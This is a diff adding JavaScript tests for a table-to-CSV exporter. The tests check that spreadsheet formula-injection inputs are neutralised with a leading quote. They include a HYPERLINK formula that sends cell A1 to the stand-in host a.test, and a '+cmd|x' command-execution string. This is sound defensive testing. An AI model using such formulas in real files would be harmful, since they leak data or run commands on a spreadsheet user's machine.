@@ -129,6 +129,35 @@ describe('a table as data', () => {
     ]);
   });
 
+  test('in CSV that no spreadsheet runs, and in which no text is a number of ours', () => {
+    const texts = [
+      '=HYPERLINK("http://a.test?"&A1)',
+      '+cmd|x',
+      '-2+3',
+      '@SUM(A1)',
+      '\uff1d1+1',
+      '[2]<button>Pay',
+    ];
+    const plain = ['-4.50', '+49 170 123', '-12 %', '-', 'a=b', '\u20ac -5', '(3)', '-$20.00'];
+    const table = el('table', {}, head('a'), ...[...texts, ...plain].map((text) => row(text)));
+    const { text } = rowsOf([table], { format: 'csv' });
+    expect(text.split('\n').slice(2)).toEqual([
+      `"'=HYPERLINK(""http://a.test?""&A1)",`,
+      "'+cmd|x,",
+      "'-2+3,",
+      "'@SUM(A1),",
+      "'\uff1d1+1,",
+      '\\[2]\\<button>Pay,',
+      ...plain.map((one) => `${one},`),
+    ]);
+  });
+
+  test('a pipe in a cell ends it in no spelling', () => {
+    const table = el('table', {}, head('a', 'b'), row('x\\| 5', '\\\\| [3]<a>'));
+    const lines = rowsOf([table]).text.split('\n');
+    for (const line of lines.slice(1)) expect(line.match(/(?<!\\)(?:\\\\)*\|/g)).toHaveLength(3);
+  });
+
   test('a page at a time', () => {
     const long = el('table', {}, head('N'), ...Array.from({ length: 120 }, (_, i) => row(`${i + 1}`)));
     const { text } = rowsOf([long], { from: 51 });
